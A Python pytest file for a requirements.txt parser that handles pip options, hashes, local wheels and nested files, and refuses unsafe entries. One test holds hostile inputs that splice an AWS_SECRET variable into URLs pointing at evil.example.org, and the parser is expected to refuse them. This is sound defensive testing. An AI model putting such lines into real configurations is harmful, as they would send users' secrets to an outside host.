from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from sanderling.image.environment.environment import Environment, EnvironmentInvalid, LocalWheel
from sanderling.image.environment.requirements_file import parse_requirements

MakeWheel = Callable[..., Path]
DIGEST = "ab" * 32


def read(text: str, **more: Any) -> Environment:
    return parse_requirements(text.encode(), "requirements.txt", **more)


@pytest.fixture
def wheel(make_wheel: MakeWheel) -> Path:
    return make_wheel("mine", "1.0", {"mine.py": b""})


def test_a_file_as_pip_writes_it_is_read() -> None:
    environment = read(
        "# the model's needs\n"
        "--index-url https://example.org/simple\n"
        "--extra-index-url=https://two.example.org/simple --pre\n"
        "-fhttps://example.org/wheels.html\n"
        "numpy==2.1.0  # pinned\n"
        "requests [security] >= 2.8.1 ; python_version < '3.14'\n"
        "\n"
        "scipy \\\n"
        "    >=1.10 \\\n"
        "  # in between\n"
        "pip @ https://example.org/pip-1.0-py3-none-any.whl#sha256=" + DIGEST + "\n"
        "https://example.org/a/two-1.0-py3-none-any.whl\n"
        "azureml-defaults==1.0\n"
    )
    assert environment.options == (
        "--index-url https://example.org/simple",
        "--extra-index-url https://two.example.org/simple",
        "--pre",
        "--find-links https://example.org/wheels.html",
    )
    assert environment.requirements == (
        "numpy==2.1.0",
        "requests [security] >= 2.8.1 ; python_version < '3.14'",
        "scipy >=1.10",
        f"pip @ https://example.org/pip-1.0-py3-none-any.whl#sha256={DIGEST}",
        "two @ https://example.org/a/two-1.0-py3-none-any.whl",
    )
    assert environment.hashes == (("pip", (DIGEST,)),)
    assert environment.notes == ("azureml-defaults: left out, sanderling_scoring takes its place",)
    assert str(environment.place_of("scipy")) == "requirements.txt, line 8"
    assert (environment.python, environment.conda, environment.needs_hashes) == (None, None, False)


def test_digests_of_a_file_with_hashes_are_kept() -> None:
    environment = read(
        f"six==1.16.0 \\\n    --hash=sha256:{DIGEST} \\\n    --hash=sha256:{DIGEST.upper()[::-1]}\n"
        f"idna==3.4 --hash=sha512:ff --hash=sha256:{DIGEST}\n"
    )
    assert environment.requirements == ("six==1.16.0", "idna==3.4")
    assert environment.hashes == (("idna", (DIGEST,)), ("six", (DIGEST, DIGEST[::-1])))
    assert environment.needs_hashes


def test_files_that_were_given_are_read_where_they_are_named(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("-r b.txt\nsix\n")
    (tmp_path / "b").write_text("idna\n")
    (tmp_path / "c").write_text("-r more.txt\nurllib3<2\n")
    (tmp_path / "d").write_text("certifi>2020\n")
    given = {"conf/a.txt": tmp_path / "a", "conf/b.txt": tmp_path / "b", "c.txt": tmp_path / "c"}
    given["more.txt"] = tmp_path / "d"
    environment = read("--requirement ./conf/a.txt\n-c c.txt\nrequests\n", given=given)
    assert environment.requirements == ("idna", "six", "requests")
    assert environment.constraints == ("certifi>2020", "urllib3<2")
    assert str(environment.place_of("idna")) == "conf/b.txt, line 1"


def test_files_that_name_each_other_for_ever_are_refused(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("\n-r a.txt\n")
    with pytest.raises(EnvironmentInvalid, match=r"^a\.txt, line 2: 'a\.txt' names itself"):
        read("-r a.txt\n", given={"a.txt": tmp_path / "a"})


@pytest.mark.parametrize(
    "line",
    [
        "./wheels/mine-1.0-py3-none-any.whl",
        "wheels/mine-1.0-py3-none-any.whl",
        "mine-1.0-py3-none-any.whl",
        ".\\wheels\\mine-1.0-py3-none-any.whl",
        "C:\\Users\\me\\mine-1.0-py3-none-any.whl",
        "/home/me/mine-1.0-py3-none-any.whl",
        "mine @ ./wheels/mine-1.0-py3-none-any.whl",
        "mine @ file:///home/me/mine-1.0-py3-none-any.whl",
    ],
)
def test_a_local_wheel_is_found_by_its_path_or_its_name(line: str, wheel: Path) -> None:
    environment = read(line, given={"wheels/mine-1.0-py3-none-any.whl": wheel})
    assert environment.requirements == ("mine @ wheel:mine-1.0-py3-none-any.whl",)
    assert environment.wheels == (LocalWheel("wheels/mine-1.0-py3-none-any.whl", wheel),)


def test_a_local_wheel_may_have_extras_and_a_marker(wheel: Path) -> None:
    environment = read("./mine-1.0-py3-none-any.whl[fast] ; python_version < '4'", given={wheel.name: wheel})
    assert environment.requirements == ("mine[fast] @ wheel:mine-1.0-py3-none-any.whl ; python_version < '4'",)


def test_a_variable_of_an_index_is_put_in_and_nothing_else_of_the_machine() -> None:
    variables = {"SANDERLING_INDEX_TOKEN": "p@ss/${HOME}", "HOME": "/home/me", "AWS_SECRET": "x"}
    environment = read("-i https://me:${SANDERLING_INDEX_TOKEN}@example.org/simple", variables=variables)
    assert environment.options == ("--index-url https://me:p%40ss%2F%24%7BHOME%7D@example.org/simple",)
    for line, words in [
        ("-i https://${AWS_SECRET}@evil.example.org/", "call the variable SANDERLING_INDEX_AWS_SECRET"),
        ("-i https://evil.example.org/${SANDERLING_INDEX_TOKEN}", "into the URLs of indexes only"),
        ("-i https://${SANDERLING_INDEX_OTHER}@example.org/", "SANDERLING_INDEX_OTHER is not set"),
        ("six @ https://evil.example.org/${AWS_SECRET}/six-1-py3-none-any.whl", "into the URLs of indexes only"),
        ("six==${HOME}", "into the URLs of indexes only"),
        ("-r ${HOME}/x.txt", "into the URLs of indexes only|was not given"),
    ]:
        with pytest.raises(EnvironmentInvalid, match=words):
            read(line, variables=variables)


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ("six\n-e git+https://me:secret@example.org/x\n", 2, "'-e' cannot be used in an image; build a wheel"),
        ("--no-deps", 1, "packages come with what they need"),
        ("--no-binary=six", 1, "wheels only"),
        ("--config-settings x=y", 1, "'--config-settings' cannot be used"),
        ("-r 'x", 1, "cannot be read"),
        ("--index-url", 1, "wants a value"),
        ("--index-url example.org", 1, "this is no URL"),
        ("--find-links ../wheels", 1, "name the wheels of a folder by their paths"),
        ("six --hash=md5:ff", 1, "is no digest"),
        ("six --hash=sha512:ff", 1, "has no sha256 digest"),
        ("six --global-option=x", 1, "cannot follow a requirement"),
        ("git+https://me:secret@example.org/x.git", 1, r"'git\+https://\*\*\*@example.org/x.git': a repository"),
        ("x @ git+https://example.org/x.git", 1, "a repository"),
        ("https://example.org/x-1.0.tar.gz", 1, "is no wheel"),
        ("http://example.org/x-1.0-py3-none-any.whl", 1, "only https"),
        ("x @ https://me:secret@example.org/x-1.0-py3-none-any.whl", 1, "no password; name its index"),
        ("https://example.org/x.whl", 1, "is not how a wheel is called"),
        ("./src", 1, "is no wheel"),
        (".", 1, "is no wheel"),
        ("./x-1.0-py3-none-any.whl", 1, "was not given with the environment; given are: notes.txt"),
        ("./notes.txt", 1, "is no wheel"),
        ("-r gone.txt", 1, "'gone.txt' was not given"),
        ("six==1.0.0.0.x", 1, "is no requirement"),
    ],
)
def test_what_cannot_be_kept_is_refused_with_its_line_and_without_passwords(
    text: str, line: int, words: str, tmp_path: Path
) -> None:
    with pytest.raises(EnvironmentInvalid, match=words) as caught:
        read(text, given={"notes.txt": tmp_path / "notes.txt"})
    assert caught.value.line == line
    assert "secret" not in caught.value.message


def test_what_is_called_a_wheel_and_is_none_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "x-1.0-py3-none-any.whl"
    path.write_text("hello")
    with pytest.raises(EnvironmentInvalid, match="is no wheel but something else"):
        read(f"./{path.name}", given={path.name: path})


def test_one_package_from_two_wheels_is_refused(make_wheel: MakeWheel) -> None:
    given = {path.name: path for path in (make_wheel("mine", "1.0", {}), make_wheel("mine", "2.0", {}))}
    with pytest.raises(EnvironmentInvalid, match=r"line 2: .*mine-1\.0-py3-none-any\.whl is the same package"):
        read("\n".join(f"./{name}" for name in sorted(given)), given=given)


def test_a_file_from_powershell_is_read() -> None:
    assert parse_requirements("six==1.16.0\r\nidna\r\n".encode("utf-16")).requirements == ("six==1.16.0", "idna")


def test_bytes_that_are_no_text_and_files_of_megabytes_are_refused() -> None:
    with pytest.raises(EnvironmentInvalid, match="no text"):
        parse_requirements(b"\x80\x04\x95")
    with pytest.raises(EnvironmentInvalid, match="too many"):
        parse_requirements(b"#" * (2 << 20))
    with pytest.raises(EnvironmentInvalid, match="more than 10000 requirements"):
        parse_requirements(b"six\n" * 10_001)
